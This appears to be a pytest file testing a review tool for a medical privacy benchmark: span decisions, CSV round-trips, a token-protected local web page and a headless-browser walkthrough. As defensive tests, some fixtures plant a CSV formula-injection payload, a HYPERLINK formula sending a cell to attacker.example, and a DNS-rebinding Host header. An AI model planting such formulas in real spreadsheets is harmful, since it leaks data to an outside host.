"""decodeleak review: decisions checked and saved as made; the CSV round-trip; the page's API; and the page itself
in a real headless Chromium (accept, reject, edit a span, refuse a bad edit, add a selected span), then finalize.

Without a browser the browser test is skipped with its reason, unless ``COVEIL_REQUIRE_BROWSER`` is set (as for
the endpoint's page)."""

from __future__ import annotations

import csv
import http.client
import json
import re
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eval_harness.cli.decodeleak import main
from eval_harness.construction.review import (ReviewLog, escape_formula, export_csv, import_csv, marked,
                                              segments, unescape_formula)
from eval_harness.construction.review_server import ReviewServer

from tests.support.browser import headless_chromium
from tests.support.construction_sources import clean, fixed_judge, medqa_record, shipped, spans_of, write_by_split


@pytest.fixture
def build(tmp_path: Path) -> tuple[Path, list[dict]]:
    """A build directory of three MedPriv items the judge kept with their published spans."""
    rows = [row for row in shipped("MEDPRIV.jsonl") if clean(row) and len(spans_of(row)) >= 3
            and a_word_only_in_the_context(row, spans_of(row))][:3]
    sources = write_by_split(rows, [medqa_record(row) for row in rows], tmp_path / "source")
    out = tmp_path / "build"
    endpoint = fixed_judge(rows, {row["_id"]: spans_of(row) for row in rows})
    with endpoint.running():
        assert main(["build-benchmark", *map(str, sources), "--format", "medqa", "--out", str(out), "--endpoint",
                     endpoint.base_url, "--model", "fixed", "--cache", str(tmp_path / "cache")]) == 0
    return out, rows


def decisions(directory: Path) -> list[dict]:
    path = directory / "review.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def a_word_only_in_the_context(row: dict, exclude: list[str]) -> str | None:
    """A word of the private context that is not in the public query, an option's text nor any of ``exclude``."""
    public = " ".join([row["public_query"], *row["options"].values()]).lower()
    return next((word for word in re.findall(r"[A-Za-z]{5,}", row["private_context"])
                 if word.lower() not in public and not any(word in span for span in exclude)
                 and re.search(rf"(?<!\w){word}(?!\w)", row["private_context"])), None)


def test_spans_are_highlighted_at_every_whole_word_occurrence() -> None:
    context = "fever and a stiff neck; stiff neck again"
    # the longer span claims both its occurrences; "neck" lies inside them; "ever" only inside "fever"
    assert segments(context, ["neck", "stiff neck", "ever"]) == [
        ("fever and a ", None), ("stiff neck", 1), ("; ", None), ("stiff neck", 1), (" again", None)]
    assert marked(context, ["fever", "again"]) == "[[fever]] and a stiff neck; stiff neck [[again]]"


def test_decisions_are_checked_then_saved_as_made(build) -> None:
    out, rows = build
    log = ReviewLog(out)
    assert log.counts() == {"pending": 3, "accepted": 0, "rejected": 0}
    row = rows[0]
    assert log.item(row["_id"]).spans == tuple(spans_of(row))  # the judge's until a person decides
    for spans, status, message in (([spans_of(row)[0] + ", x"], "accepted", "holds a comma"),
                                   (["not in this text"], "accepted", "not verbatim in the private context"),
                                   ([], "accepted", "needs at least one span"),
                                   (spans_of(row), "maybe", "status must be one of")):
        with pytest.raises(ValueError, match=message):
            log.decide(row["_id"], status, spans)
    assert decisions(out) == []  # nothing refused was written
    log.decide(row["_id"], "accepted", spans_of(row)[:2])
    log.decide(rows[1]["_id"], "rejected", [])  # a rejected item may keep no span
    saved = decisions(out)
    assert [(d["item"], d["status"], d["spans"]) for d in saved] == [
        (row["_id"], "accepted", spans_of(row)[:2]), (rows[1]["_id"], "rejected", [])]
    # a torn last line (the process died writing it) is dropped when the log is next opened
    with (out / "review.jsonl").open("a") as log_file:
        log_file.write('{"item": "' + rows[2]["_id"] + '", "status": "acc')
    again = ReviewLog(out)
    assert again.counts() == {"pending": 1, "accepted": 1, "rejected": 1}
    assert again.item(row["_id"]).spans == tuple(spans_of(row)[:2])
    again.decide(rows[2]["_id"], "accepted", spans_of(rows[2]))
    assert len(decisions(out)) == 3


@pytest.mark.slow
def test_a_csv_round_trip(build, tmp_path: Path, capsys) -> None:
    out, rows = build
    sheet = tmp_path / "review.csv"
    assert main(["review", str(out), "--export-csv", str(sheet)]) == 0
    with sheet.open(newline="") as data:
        lines = list(csv.DictReader(data))
    assert [line["_id"] for line in lines] == [row["_id"] for row in rows]
    first = lines[0]
    assert first["status"] == "pending" and first["spans"] == rows[0]["filtered_context"]
    assert "[[" + spans_of(rows[0])[0] + "]]" in first["marked_private_context"]

    # a person accepts the first with one span more, rejects the second, leaves the third
    extra = a_word_only_in_the_context(rows[0], spans_of(rows[0]))
    lines[0].update(status="accepted", spans=first["spans"] + ", " + extra)
    lines[1].update(status="REJECTED")
    bad = [dict(line) for line in lines]
    bad[2].update(status="accepted", spans="words nowhere in it")
    for name, content in (("bad.csv", bad), ("good.csv", lines)):
        with (tmp_path / name).open("w", newline="") as data:
            writer = csv.DictWriter(data, fieldnames=list(lines[0]))
            writer.writeheader()
            writer.writerows(content)
    assert main(["review", str(out), "--import-csv", str(tmp_path / "bad.csv")]) == 1
    assert "nothing imported; line 4: span 'words nowhere in it'" in capsys.readouterr().err
    assert decisions(out) == []
    assert main(["review", str(out), "--import-csv", str(tmp_path / "good.csv")]) == 0
    assert "2 decisions saved (1 accepted, 1 rejected, 0 back to review)" in capsys.readouterr().out
    assert import_csv(ReviewLog(out), tmp_path / "good.csv") == {"pending": 0, "accepted": 0, "rejected": 0}
    assert export_csv(ReviewLog(out), sheet) == 3

    assert main(["finalize", str(out), "--name", "reviewed"]) == 0
    (final,) = [json.loads(line) for line in (out / "final" / "reviewed.jsonl").read_text().splitlines()]
    assert final == {**rows[0], "filtered_context": rows[0]["filtered_context"] + ", " + extra}


def request(url: str, *, body: object = None, headers: dict | None = None) -> tuple[int, dict]:
    data = None if body is None else json.dumps(body).encode()
    req = urllib.request.Request(url, data=data, headers={"Content-Type": "application/json", **(headers or {})})
    try:
        with urllib.request.urlopen(req, timeout=10) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read())


@pytest.mark.parametrize(("cell", "escaped"), [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("+1", "'+1"), ("-5 mg", "'-5 mg"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("'quoted", "''quoted"),
    ("fever, =x", "fever, =x"), ("", "")])
def test_a_cell_a_spreadsheet_would_run_is_escaped(cell: str, escaped: str) -> None:
    assert escape_formula(cell) == escaped
    assert unescape_formula(escaped) == cell
    assert unescape_formula("=x") == "=x"  # as a spreadsheet saves the cell it showed: unchanged


@pytest.mark.slow
@given(st.text(max_size=12))
def test_escaping_a_cell_round_trips_and_never_leaves_a_formula(cell: str) -> None:
    assert unescape_formula(escape_formula(cell)) == cell
    assert not escape_formula(cell).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.slow
def test_the_csv_holds_no_live_formula_and_reads_escaped_cells_back(build: tuple[Path, list[dict]], tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """Before, a rationale or context starting with ``=`` was a live formula in the exported sheet; an escaped span
    came back with its quote; a field over 128 KiB crashed the import with a raw csv traceback."""
    out, rows = build
    row = rows[0]
    # the judge's rationale and the item's context start with what a spreadsheet runs
    extraction = [json.loads(line) for line in (out / "extraction.jsonl").read_text().splitlines()]
    for entry in extraction:
        entry["detail"] = '=HYPERLINK("http://attacker.example/?"&C2)'
    (out / "extraction.jsonl").write_text("".join(json.dumps(e) + "\n" for e in extraction))
    items = [json.loads(line) for line in (out / "items.jsonl").read_text().splitlines()]
    items[0]["private_context"] = "@home " + items[0]["private_context"]
    (out / "items.jsonl").write_text("".join(json.dumps(i) + "\n" for i in items))
    sheet = tmp_path / "review.csv"
    export_csv(ReviewLog(out), sheet)
    with sheet.open(newline="") as data:
        lines = list(csv.DictReader(data))
    assert all(line["judge_rationale"] == "'" + extraction[0]["detail"] for line in lines)
    assert lines[0]["marked_private_context"].startswith("'@home ")
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line.values())
    # a person adds the span "@home": the escaped cell (as written back) and the bare one both mean "@home"
    for cell in ("'@home, " + lines[0]["spans"], "@home, " + lines[0]["spans"]):
        lines[0]["spans"] = cell
        with sheet.open("w", newline="") as data:
            writer = csv.DictWriter(data, fieldnames=list(lines[0]))
            writer.writeheader()
            writer.writerows(lines)
        import_csv(ReviewLog(out), sheet)
        assert decisions(out)[-1]["spans"] == ["@home", *spans_of(row)]
        lines[0]["spans"] = ", ".join(spans_of(row))
    # a long field (a private context over the csv module's 128 KiB default) is read ...
    lines[1]["marked_private_context"] = "x" * 200_000
    with sheet.open("w", newline="") as data:
        writer = csv.DictWriter(data, fieldnames=list(lines[0]))
        writer.writeheader()
        writer.writerows(lines)
    import_csv(ReviewLog(out), sheet)
    # ... and one over the limit is a one-line error, not a traceback, and leaves the limit as it was
    monkeypatch.setattr("eval_harness.construction.review.CSV_FIELD_LIMIT", 100_000)
    before = csv.field_size_limit()
    with pytest.raises(ValueError, match=r"not a readable CSV .*at most 100000 characters"):
        import_csv(ReviewLog(out), sheet)
    assert csv.field_size_limit() == before
    assert main(["review", str(out), "--import-csv", str(sheet)]) == 1


def credentialed(server: ReviewServer) -> Callable[..., tuple[int, dict]]:
    """:func:`request` with the run's secret in the page's cookie, as the browser sends it once the URL was opened."""
    def send(url: str, *, body: object = None, headers: dict | None = None) -> tuple[int, dict]:
        return request(url, body=body, headers={"Cookie": f"{server.cookie_name}={server.token}", **(headers or {})})
    return send


@pytest.mark.slow
def test_the_page_answers_only_a_request_that_carries_the_runs_secret(build: tuple[Path, list[dict]]) -> None:
    out, rows = build
    server = ReviewServer(out).start()
    base = f"http://127.0.0.1:{server.port}/"
    item = base + "api/items/" + urllib.parse.quote(rows[0]["_id"])
    try:
        # another local process, with no secret or a wrong one: no private context, no decision, not the page
        for headers in ({}, {"Cookie": f"{server.cookie_name}=not-the-secret"},
                        {"Cookie": f"{server.cookie_name}={server.token[:-1]}"}, {"Cookie": "garbage=="}):
            status, reply = request(base + "api/items", headers=headers)
            assert status == 403 and "items" not in reply, headers
            assert request(item, body={"status": "rejected", "spans": []}, headers=headers)[0] == 403
            assert request(base + "api/items?token=wrong", headers=headers)[0] == 403
            assert _status(base, headers) == 403
        assert decisions(out) == []
        # the printed address: the secret in the URL becomes an HttpOnly same-site cookie and a redirect without it
        assert server.url == f"{base}?token={server.token}" and len(server.token) >= 40
        parsed = urllib.parse.urlsplit(server.url)
        connection = http.client.HTTPConnection(parsed.hostname, parsed.port, timeout=10)
        connection.request("GET", f"{parsed.path}?{parsed.query}")
        response = connection.getresponse()
        response.read()
        connection.close()
        assert response.status == 303 and response.getheader("Location") == "/"
        cookie = response.getheader("Set-Cookie")
        assert cookie.startswith(f"{server.cookie_name}={server.token};")
        assert "HttpOnly" in cookie and "SameSite=Strict" in cookie
        # with the cookie: read and decide
        status, listing = credentialed(server)(base + "api/items")
        assert status == 200 and [entry["id"] for entry in listing["items"]] == [row["_id"] for row in rows]
        assert credentialed(server)(item, body={"status": "rejected", "spans": []})[0] == 200
        assert [d["status"] for d in decisions(out)] == ["rejected"]
    finally:
        server.close()


def _status(url: str, headers: dict) -> int:
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=10) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code


@pytest.mark.slow
def test_the_page_api_refuses_what_it_must(build) -> None:
    out, rows = build
    server = ReviewServer(out).start()
    request = credentialed(server)
    try:
        status, listing = request(server.base_url + "api/items")
        assert status == 200 and [item["id"] for item in listing["items"]] == [row["_id"] for row in rows]
        first = listing["items"][0]
        assert "".join(segment["text"] for segment in first["segments"]) == rows[0]["private_context"]
        assert {s["text"] for s in first["segments"] if s["span"] is not None} == set(spans_of(rows[0]))
        url = server.base_url + "api/items/" + rows[0]["_id"]
        assert request(url, body={"status": "accepted", "spans": ["nowhere"]})[0] == 400
        assert request(url, body={"status": "accepted", "spans": "x"})[1] == {
            "error": "spans must be a list of strings"}
        assert request(server.base_url + "api/items/no-such-item", body={"status": "rejected", "spans": []})[0] == 404
        assert request(url, body={"status": "rejected", "spans": []}, headers={"Content-Type": "text/plain"})[0] == 415
        for length in ("abc", "-5"):  # not a byte count: refused, and the server goes on answering
            parsed = urllib.parse.urlsplit(url)
            connection = http.client.HTTPConnection(parsed.hostname, parsed.port, timeout=10)
            connection.putrequest("POST", parsed.path)
            connection.putheader("Content-Type", "application/json")
            connection.putheader("Cookie", f"{server.cookie_name}={server.token}")
            connection.putheader("Content-Length", length)
            connection.endheaders()
            response = connection.getresponse()
            assert (response.status, json.loads(response.read())) == (400, {
                "error": "Content-Length is not a byte count"}), length
            connection.close()
        # a page of another origin that resolved its name to this address (DNS rebinding) is not answered
        assert request(server.base_url + "api/items", headers={"Host": "attacker.example:80"})[0] == 403
        assert decisions(out) == []
        status, reply = request(url, body={"status": "rejected", "spans": []})
        assert status == 200 and reply["item"]["status"] == "rejected" and reply["counts"]["rejected"] == 1
        assert decisions(out)[-1]["status"] == "rejected"
    finally:
        server.close()


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[object]:
    with headless_chromium(tmp_path / "profile", window="1200,1600") as driver:
        yield driver


@pytest.mark.slow
def test_the_review_page_in_a_real_browser(build, browser, tmp_path: Path) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support.ui import WebDriverWait

    out, rows = build
    server = ReviewServer(out).start()
    wait = WebDriverWait(browser, 30)
    saves = {"n": 0}

    def card(row: dict):
        return browser.find_element(By.CSS_SELECTOR, f'.card[data-id="{row["_id"]}"]')

    def saved() -> None:  # one more decision confirmed by the server, and on disk
        saves["n"] += 1
        wait.until(lambda b: b.find_element(By.ID, "saved").get_attribute("data-saves") == str(saves["n"]))
        assert len(decisions(out)) == saves["n"]

    try:
        browser.get(server.url)
        wait.until(lambda b: len(b.find_elements(By.CSS_SELECTOR, ".card")) == 3)
        assert browser.find_element(By.ID, "count-pending").text == "3"
        # every span highlighted in its private context, nothing else
        for row in rows:
            marks = card(row).find_elements(By.CSS_SELECTOR, ".private-context mark.span")
            assert {mark.text for mark in marks} == set(spans_of(row))
            assert card(row).find_element(By.CSS_SELECTOR, ".private-context").text == row["private_context"]
        mark_colour = card(rows[0]).find_element(By.CSS_SELECTOR, "mark.span").value_of_css_property("background-color")
        assert mark_colour == "rgba(253, 227, 191, 1)"  # the stylesheet's span colour

        # reject the first item
        card(rows[0]).find_element(By.CSS_SELECTOR, "button.reject").click()
        saved()
        assert decisions(out)[-1] == {**decisions(out)[-1], "item": rows[0]["_id"], "status": "rejected"}
        assert card(rows[0]).get_attribute("data-status") == "rejected"
        assert not card(rows[0]).find_element(By.CSS_SELECTOR, "button.reject").is_enabled()
        assert browser.find_element(By.ID, "count-rejected").text == "1"

        # edit the second item's first span into another phrase of its context, then accept it
        second = rows[1]
        replacement = a_word_only_in_the_context(second, spans_of(second))
        field = card(second).find_element(By.CSS_SELECTOR, "input.span-text")
        field.send_keys(Keys.CONTROL, "a")  # select the text and type over it (clear() would fire a change)
        field.send_keys(replacement, Keys.ENTER)
        saved()
        edited = [replacement, *spans_of(second)[1:]]
        assert decisions(out)[-1]["spans"] == edited and decisions(out)[-1]["status"] == "pending"
        marks = {m.text for m in card(second).find_elements(By.CSS_SELECTOR, ".private-context mark.span")}
        assert marks == set(edited)
        # a span that is not in the context is refused: shown on the card, nothing saved, the field restored
        field = card(second).find_element(By.CSS_SELECTOR, "input.span-text")
        field.send_keys(Keys.CONTROL, "a")
        field.send_keys("a phrase that is nowhere", Keys.ENTER)
        wait.until(lambda b: b.find_element(By.ID, "saved").get_attribute("data-state") == "error")
        assert "not verbatim in the private context" in card(second).find_element(By.CSS_SELECTOR, ".error").text
        assert card(second).find_element(By.CSS_SELECTOR, "input.span-text").get_attribute("value") == replacement
        assert len(decisions(out)) == saves["n"]
        card(second).find_element(By.CSS_SELECTOR, "button.accept").click()
        saved()

        # select a word in the third item's private context and add it as a span, then accept
        third = rows[2]
        word = a_word_only_in_the_context(third, spans_of(third))
        selected = browser.execute_script(
            """const context = arguments[0], word = arguments[1];
               const walker = document.createTreeWalker(context, NodeFilter.SHOW_TEXT);
               const pattern = new RegExp('(^|[^A-Za-z0-9])' + word + '(?![A-Za-z0-9])');
               for (let node = walker.nextNode(); node; node = walker.nextNode()) {
                 const found = pattern.exec(node.textContent);
                 if (!found) continue;
                 const start = found.index + found[1].length, range = document.createRange();
                 range.setStart(node, start); range.setEnd(node, start + word.length);
                 const selection = window.getSelection(); selection.removeAllRanges(); selection.addRange(range);
                 return selection.toString();
               }
               return null;""",
            card(third).find_element(By.CSS_SELECTOR, ".private-context"), word)
        assert selected == word
        card(third).find_element(By.CSS_SELECTOR, "button.add-selection").click()
        saved()
        assert decisions(out)[-1]["spans"] == [*spans_of(third), word]
        card(third).find_element(By.CSS_SELECTOR, "button.accept").click()
        saved()

        # the filter shows what was decided
        browser.find_element(By.CSS_SELECTOR, "#filter option[value=accepted]").click()
        visible = [c.get_attribute("data-id") for c in browser.find_elements(By.CSS_SELECTOR, ".card") if c.is_displayed()]
        assert visible == [second["_id"], third["_id"]]
        browser.find_element(By.CSS_SELECTOR, "#filter option[value=all]").click()
        screenshot = tmp_path / "review_page.png"
        assert browser.save_screenshot(str(screenshot)) and screenshot.stat().st_size > 10_000
    finally:
        server.close()

    assert main(["finalize", str(out), "--name", "reviewed"]) == 0
    final = {json.loads(line)["_id"]: json.loads(line) for line in
             (out / "final" / "reviewed.jsonl").read_text().splitlines()}
    assert final == {second["_id"]: {**second, "filtered_context": ", ".join(edited)},
                     third["_id"]: {**third, "filtered_context": ", ".join([*spans_of(third), word])}}


def test_the_browser_is_opened_on_a_file_only_this_user_reads_not_on_the_secret() -> None:
    from eval_harness.cli.review import _redirect_file

    url = "http://127.0.0.1:1/?token=s3cret"
    path = _redirect_file(url)
    try:
        assert path.stat().st_mode & 0o777 == 0o600 and path.parent.stat().st_mode & 0o777 == 0o700
        assert 'content="0;url=http://127.0.0.1:1/?token=s3cret"' in path.read_text()
    finally:
        path.unlink()
        path.parent.rmdir()


@pytest.mark.slow
def test_every_file_of_a_build_review_and_finalize_is_private(build: tuple[Path, list[dict]], tmp_path: Path) -> None:
    """Before, the build's outputs, review.jsonl, the review CSV and final/ (private contexts, spans) were 0644."""
    import os

    out, rows = build  # built under the umask of the test run
    previous = os.umask(0o022)
    try:
        log = ReviewLog(out)
        log.decide(rows[0]["_id"], "accepted", spans_of(rows[0]))
        export_csv(log, tmp_path / "sheets" / "review.csv")
        assert main(["finalize", str(out), "--name", "mine"]) == 0
    finally:
        os.umask(previous)
    files = [path for path in out.rglob("*") if path.is_file()] + [tmp_path / "sheets" / "review.csv"]
    names = {path.name for path in files}
    assert {"build.json", "items.jsonl", "screening.jsonl", "extraction.jsonl", "summary.json", "review.jsonl",
            "mine.jsonl", "attributes.md", "attributes.csv", "review.csv"} <= names
    assert any(name.endswith(".png") for name in names)
    assert {path.name: path.stat().st_mode & 0o777 for path in files} == dict.fromkeys(names, 0o600)
    folders = [out, out / "final", tmp_path / "sheets"]
    assert {folder.name: folder.stat().st_mode & 0o777 for folder in folders} == {
        folder.name: 0o700 for folder in folders}
